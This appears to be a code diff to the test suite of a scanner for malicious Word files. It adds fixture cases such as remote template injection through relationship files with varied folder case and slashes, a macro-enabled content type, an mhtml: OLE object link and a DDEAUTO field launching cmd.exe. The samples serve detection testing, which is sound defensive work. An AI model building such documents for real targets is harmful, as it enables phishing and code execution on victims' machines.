@@ -51,8 +51,11 @@ def beside(name: str, content: str | bytes, kind: str, to: str = "") -> Parts:
 
 
 def outside(kind: str, target: str) -> Parts:
-    listed = relations({"x": f"{kind} {target}"}).replace("/></", ' TargetMode="External"/></')
-    return {**docx(PAR), "word/_rels/document.xml.rels": listed}
+    return {**docx(PAR), "word/_rels/document.xml.rels": listed_outside(kind, target)}
+
+
+def listed_outside(kind: str, target: str) -> str:
+    return relations({"x": f"{kind} {target}"}).replace("/></", ' TargetMode="External"/></')
 
 
 def listened(script: str) -> Parts:
@@ -88,6 +91,17 @@ RUNS: dict[str, tuple[str, Parts]] = {
     "a template at an address": ("calls", outside("attachedTemplate", "http://h.example/x.dotm")),
     "a template on a share": ("calls", outside("attachedTemplate", "file://\\\\h\\x.dotm")),
     "a template on a share by its name": ("calls", outside("attachedTemplate", "\\\\h.example\\x.dotm")),
+    **{f"a template that a list in {folder} names": (
+        "calls", {**docx(PAR), f"word/{folder}/settings.xml.rels": listed_outside("attachedTemplate", "http://h/x.dotm")}
+    ) for folder in ("_rels", "_RELS", "_Rels")},
+    "a template that a list names whose folder is written with the other slash": (
+        "calls", {**docx(PAR), "word\\_RELS\\settings.xml.RELS": listed_outside("attachedTemplate", "http://h/x.dotm")}
+    ),
+    "a kind of part with macros in a list written small": (
+        "macros",
+        {**docx(PAR), "[content_types].xml": '<Types><Override PartName="/word/document.xml" '
+         'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'},
+    ),
     "an object at an address": ("calls", outside("oleObject", "mhtml:http://h.example/x!x-usc:http://h.example")),
     "a frame at an address": ("calls", outside("frame", "https://h.example/x.html")),
     "a field that starts a program": ("calls", docx(PAR + fields(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))),
